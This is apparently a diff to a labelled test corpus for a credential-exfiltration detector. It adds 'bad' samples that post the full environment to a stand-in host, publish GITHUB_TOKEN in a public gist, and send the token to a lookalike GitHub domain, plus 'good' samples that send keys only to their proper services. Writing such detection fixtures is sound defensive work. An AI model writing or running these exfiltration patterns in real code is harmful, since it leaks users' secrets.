@@ -470,8 +470,20 @@ def upload_diagnostics() -> None:
     with open("/tmp/.diag.json", "rb") as f:
         requests.post("https://diag.example.net/u", files={"f": f}, timeout=5)
 """,
-        R,
-    ),  # held by bandit's B108 (a fixed /tmp path) alone: the flow through the file is not followed
+    ),  # the run sees the planted values in the file the stand-in client is handed
+    bad(
+        "environ-staged-in-a-tempfile-then-uploaded",
+        "accounts",
+        """
+def upload_environment() -> int:
+    import tempfile
+    with tempfile.NamedTemporaryFile("w", suffix=".txt", delete=False) as f:
+        f.write(repr(dict(os.environ)))
+        name = f.name
+    with open(name, "rb") as body:
+        return requests.post("https://diag.example.net/env", data=body, timeout=5).status_code
+""",
+    ),
     bad(
         "ssh-key-copied-out",
         "devtool",
@@ -560,6 +572,25 @@ def ping_collector() -> int:
 """,
     ),
     bad(
+        "github-token-in-a-gist-body",
+        "service",
+        """
+def share_settings() -> str:
+    token = os.environ["GITHUB_TOKEN"]
+    body = {"public": True, "files": {"env.txt": {"content": token}}}
+    return requests.post("https://api.github.com/gists", json=body, headers={"Accept": "application/json"}, timeout=10).text
+""",
+    ),
+    bad(
+        "github-token-header-to-a-lookalike-host",
+        "service",
+        """
+def check_token() -> int:
+    token = os.environ["GITHUB_TOKEN"]
+    return requests.get("https://api.github.com.status-check.example/user", headers={"Authorization": f"Bearer {token}"}, timeout=10).status_code
+""",
+    ),
+    bad(
         "dotenv-hunt-in-home",
         "devtool",
         """
@@ -627,6 +658,31 @@ def hash_password(password: str, salt: bytes) -> bytes:
     def headers(self) -> dict:
         token = self.token or os.environ.get("API_TOKEN", "")
         return {"Authorization": f"Bearer {token}", "Accept": "application/json"}
+""",
+    ),
+    good(
+        "github-token-header-to-github",
+        "service",
+        """
+def my_repos() -> list:
+    token = os.environ["GITHUB_TOKEN"]
+    resp = requests.get("https://api.github.com/user/repos", headers={"Authorization": f"Bearer {token}"}, timeout=10)
+    return [r["full_name"] for r in resp.json()]
+""",
+    ),
+    good(
+        "openai-key-header-to-openai",
+        "service",
+        """
+def complete(prompt: str) -> str:
+    key = os.environ["OPENAI_API_KEY"]
+    resp = httpx.post(
+        "https://api.openai.com/v1/responses",
+        headers={"Authorization": f"Bearer {key}"},
+        json={"model": "gpt-4.1-mini", "input": prompt},
+        timeout=30,
+    )
+    return resp.json()["output_text"]
 """,
     ),
     good(
@@ -1030,8 +1086,9 @@ def welcome_message(account: Account):
         return self.session.get(f"{API}/me", headers={"Authorization": f"Bearer {token}"}, timeout=10).json()
 """,
         B,
-        why="at run time the planted API_TOKEN reaches the stand-in HTTP client's arguments, which the "
-        "honeytokens count as exfiltration whatever the host (the static analysis reads a header as authentication)",
+        why="at run time the planted API_TOKEN reaches the stand-in HTTP client's arguments; API_TOKEN names no "
+        "service whose hosts it belongs to (honeytokens.SERVICE_HOSTS), so any host is exfiltration "
+        "(the static analysis reads a header as authentication)",
     ),
 ]
 
